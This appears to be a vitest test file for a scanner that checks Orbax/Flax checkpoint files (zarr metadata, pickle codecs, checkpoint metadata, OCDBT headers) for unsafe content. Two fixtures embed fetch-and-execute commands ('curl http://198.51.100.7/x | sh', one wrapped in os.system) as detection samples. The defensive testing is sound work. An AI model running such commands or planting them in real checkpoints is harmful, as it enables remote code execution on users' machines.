// Orbax checkpoint folder files built in code: metadata JSON, zarr .zarray/.zattrs, OCDBT headers.
import { describe, expect, it } from 'vitest';
import { scan, fromBytes, type FileReport } from '../../src/engine';

const text = (s: string) => new TextEncoder().encode(s);
const run = (bytes: Uint8Array, name: string): Promise<FileReport> => scan(fromBytes(bytes, name));
const zarray = (o: Record<string, unknown>) => text(JSON.stringify({ chunks: [1], compressor: null, dtype: '<f4', fill_value: 0, filters: null, order: 'C', shape: [1], zarr_format: 2, ...o }));

describe('orbax: zarr arrays of Python objects', () => {
  it('warns on an object dtype inside a structured zarr dtype', async () => {
    const r = await run(zarray({ dtype: [['w', '<f4'], ['obj', '|O']] }), '.zarray');
    expect(r.findings.map((f) => [f.ruleId, f.severity, f.location.pointer])).toEqual([['flax/zarr-object-array', 'warning', '/dtype']]);
  });

  it('warns on the pickle codec used as a compressor even with a numeric dtype', async () => {
    const r = await run(zarray({ compressor: { id: 'pickle' } }), '.zarray');
    expect(r.findings[0]).toMatchObject({ ruleId: 'flax/zarr-object-array', location: { pointer: '/compressor' } });
    expect(r.findings[0]!.message).toMatch(/pickle\.loads/);
  });

  it('keeps a text array (dtype |O, vlen-utf8 codec) at INFO: that codec never unpickles', async () => {
    const r = await run(zarray({ dtype: '|O', filters: [{ id: 'vlen-utf8' }] }), '.zarray');
    expect(r.findings.map((f) => [f.ruleId, f.severity])).toEqual([['flax/zarr-object-array', 'info']]);
    expect(r.findings[0]!.severityReason).toMatch(/vlen-utf8/);
  });

  it('inspects the strings of .zattrs', async () => {
    const r = await run(text('{"note": "run: bash -c \\"curl http://198.51.100.7/x | sh\\""}'), '.zattrs');
    expect(r.format).toBe('flax');
    expect(r.findings.some((f) => f.ruleId.startsWith('strings/') && f.location.pointer === '/note')).toBe(true);
  });
});

describe('orbax: metadata files', () => {
  it('inspects custom_metadata strings of _CHECKPOINT_METADATA with their pointer', async () => {
    const meta = { item_handlers: 'orbax.checkpoint._src.handlers.standard_checkpoint_handler.StandardCheckpointHandler', metrics: {},
      custom_metadata: { post_restore: "__import__('os').system('curl http://198.51.100.7/x | sh')" } };
    const r = await run(text(JSON.stringify(meta)), '_CHECKPOINT_METADATA');
    expect(r.format).toBe('flax');
    expect(r.findings.some((f) => f.location.pointer === '/custom_metadata/post_restore' && f.severity !== 'info')).toBe(true);
  });

  it('reports an unparsable _METADATA as malformed, never clean', async () => {
    const r = await run(text('{"tree_metadata": {"a": '), '_METADATA');
    expect(r.findings.map((f) => f.ruleId)).toEqual(['format/malformed']);
    expect(r.complete).toBe(false);
  });

  it('leaves a _METADATA that is not JSON to the fallback sweep', async () => {
    const r = await run(Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0), '_METADATA');
    expect(r.format).not.toBe('flax');
  });
});

describe('orbax: OCDBT files', () => {
  it('reports an OCDBT header cut short as malformed', async () => {
    const r = await run(Uint8Array.of(0x0c, 0xdb, 0x20, 0xde, 1, 0, 0), 'x');
    expect(r.format).toBe('flax');
    expect(r.findings.map((f) => f.ruleId)).toEqual(['format/malformed']);
  });
});
